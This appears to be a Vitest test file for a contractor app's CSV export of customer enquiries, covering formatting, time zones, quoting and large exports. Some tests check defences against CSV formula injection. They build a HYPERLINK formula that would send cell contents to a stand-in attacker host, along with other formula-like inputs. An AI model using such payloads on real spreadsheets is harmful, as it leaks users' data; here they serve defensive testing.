import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { makeEnquiry } from '#tests/factories/enquiry.ts';
import { signInBusiness } from '#tests/factories/session.ts';
import { createTestApp } from '#tests/helpers/test-app.ts';

const { app, db } = await createTestApp();

async function download(headers: Record<string, string>, query = '') {
  const response = await app.inject({ url: `/api/v1/contractor/enquiries/export${query}`, headers });
  return { status: response.statusCode, headers: response.headers, text: response.payload };
}

test('the inbox comes as CSV that a spreadsheet opens, newest first, with times of India', async () => {
  const owner = await signInBusiness(db);
  await makeEnquiry(db, {
    business_id: owner.id,
    name: 'Meera "MK" Kulkarni',
    message: 'Roof, 2 floors\nSoon',
    status: 'replied',
    created_at: '2026-01-05T20:00:00Z',
    replied_at: '2026-01-05T20:45:00Z',
  });
  await makeEnquiry(db, { business_id: owner.id, name: 'Earlier', created_at: '2026-01-05T04:05:00Z' });
  await makeEnquiry(db, { name: 'For another' });
  const { status, headers, text } = await download(owner.headers);
  expect(status).toBe(200);
  expect(headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(headers['content-disposition']).toMatch(/^attachment; filename="enquiries-\d{4}-\d\d-\d\d\.csv"$/);
  expect(text).toBe(
    [
      '\ufeffReceived (India time),Name,Email,Phone number,Message,Floor or area,Service,Where,When,Budget,Photos,Status,Replied (India time)',
      '2026-01-06 01:30,"Meera ""MK"" Kulkarni",meera@example.in,9876543210,"Roof, 2 floors\nSoon",,,,,,,Replied,2026-01-06 02:15',
      '2026-01-05 09:35,Earlier,meera@example.in,9876543210,Our roof leaks.,,,,,,,New,',
      '',
    ].join('\r\n'),
  );
  expect((await download(owner.headers, '?status=new&q=earl')).text.split('\r\n')).toHaveLength(3);
});

test.each(['=', '+', '-', '@', '\t', '\r'])('a text that begins with %j is no formula', async (character) => {
  const owner = await signInBusiness(db);
  const formula = `${character}HYPERLINK("http://evil.example?"&A1)`;
  await makeEnquiry(db, { business_id: owner.id, name: formula, message: formula });
  const { text } = await download(owner.headers);
  expect(text.split(`"'${formula.replaceAll('"', '""')}"`)).toHaveLength(3);
});

test('an enquiry of several lines is one row, and none of its lines is a formula', async () => {
  const owner = await signInBusiness(db);
  const lines = ['Terrace leaks.\nSince last monsoon.\r\nPlease call after 6', 'Roof\n=1+1', 'Roof\r\n ＠SUM(A1)\r-2+3\u2028+cmd'];
  for (const message of lines) await makeEnquiry(db, { business_id: owner.id, message });
  const { text } = await download(owner.headers);
  const rows = parse(text, { bom: true, record_delimiter: '\r\n' }) as string[][];
  expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
  const cellsLast = rows.slice(1).map((cells) => cells[4]);
  expect(cellsLast.toReversed()).toEqual([lines[0], "Roof\n'=1+1", "Roof\r\n' ＠SUM(A1)\r'-2+3\u2028'+cmd"]);
  // What reads the file line by line, without looking at quotes, finds no formula either.
  for (const line of text.split(/[\r\n\u2028]/)) expect(line).not.toMatch(/^"?\s*[=+\-@＠]/);
});

test('a large inbox comes whole, each enquiry once', async () => {
  const owner = await signInBusiness(db);
  const rows = Array.from({ length: 1_203 }, (_, at) => ({
    business_id: owner.id,
    name: `Writer ${at}`,
    phone_no: '9876543210',
    email: 'meera@example.in',
    message: 'Hello',
    consented_at: new Date(),
    created_at: '2026-01-05T04:05:00Z',
  }));
  await db.insertInto('enquiries').values(rows).execute();
  const { text } = await download(owner.headers);
  expect(new Set(text.match(/Writer \d+/g)).size).toBe(1_203);
  expect(text.trimEnd().split('\r\n')).toHaveLength(1_204);
});
